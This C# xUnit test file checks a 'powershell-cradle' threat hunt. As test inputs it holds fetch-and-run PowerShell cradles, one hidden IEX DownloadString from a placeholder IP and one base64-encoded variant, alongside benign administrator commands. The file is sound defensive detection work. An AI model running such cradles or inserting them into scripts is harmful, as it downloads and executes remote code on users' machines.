using Harrier.Hunts.Verdicts;
using Xunit;

namespace Harrier.Tests.Hunts;

public sealed class PowerShellCradleTests
{
    const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    [Theory]
    [InlineData(
        "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    )]
    [InlineData(
        "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA=="
    )]
    public void A_cradle_confirms(string line)
    {
        using var lake = Started(line);
        var result = lake.Run("powershell-cradle");
        Assert.Equal(Verdict.ConfirmedMalicious, result.Run.Verdict);
        Assert.Equal("ws-1", result.Leads[0].Entities[0].Value);
    }

    [Theory]
    [InlineData(
        "powershell iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
    )]
    [InlineData("powershell Invoke-WebRequest https://tools.example/x.zip -OutFile x.zip")]
    [InlineData(
        "powershell -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFMAbwByAHQALQBPAGIAagBlAGMAdAA="
    )]
    public void What_administrators_do_does_not(string line)
    {
        using var lake = Started(line);
        Assert.Equal(Verdict.NotConfirmed, lake.Run("powershell-cradle").Run.Verdict);
    }

    [Fact]
    public void Without_command_lines_it_is_inconclusive()
    {
        using var lake = new HuntLake();
        lake.Add(
            "process",
            HuntLake.Monday,
            ("host", "ws-1"),
            ("account", "anna"),
            ("action", "start"),
            ("image", PowerShell)
        );
        var result = lake.Run("powershell-cradle");
        Assert.Equal(Verdict.Inconclusive, result.Run.Verdict);
        Assert.Contains("process.command_line", result.Run.Reason);
    }

    static HuntLake Started(string line)
    {
        var lake = new HuntLake();
        lake.Add(
            "process",
            HuntLake.Monday,
            ("host", "ws-1"),
            ("account", "anna"),
            ("action", "start"),
            ("image", PowerShell),
            ("parent_image", @"C:\Windows\explorer.exe"),
            ("command_line", line)
        );
        lake.Add(
            "script",
            HuntLake.Monday,
            ("host", "ws-1"),
            ("account", "anna"),
            ("script_text", "Get-Date")
        );
        return lake;
    }
}
